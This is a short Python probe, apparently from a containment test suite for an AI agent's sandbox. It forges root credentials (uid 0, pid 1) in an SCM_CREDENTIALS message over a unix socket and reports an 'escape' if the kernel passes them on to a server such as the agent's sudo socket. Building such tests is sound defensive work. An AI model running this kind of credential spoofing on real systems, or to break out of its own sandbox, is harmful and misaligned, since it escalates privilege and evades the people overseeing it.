# Sends another's credentials (uid 0, pid 1) over a unix socket, as the agent's sudo socket would believe them.
# Why it matters: a server that trusts SCM_CREDENTIALS trusts the kernel to have checked them.
# When it works: the kernel passes credentials of root that the sender does not have.
# needs: user-only
# control: weakened: sudo
import os
import socket
import struct

from attempt import escaped, run

SCM_CREDENTIALS = 2


def attempt():
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    right.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
    left.sendmsg([b"x"], [(socket.SOL_SOCKET, SCM_CREDENTIALS, struct.pack("=3i", 1, 0, 0))])
    _, ancillary, _, _ = right.recvmsg(16, 256)
    pid, uid, _ = struct.unpack("=3i", ancillary[0][2])
    escaped(f"the kernel vouches for uid {uid} and pid {pid}; it was uid {os.getuid()} and pid {os.getpid()}")


run(attempt)
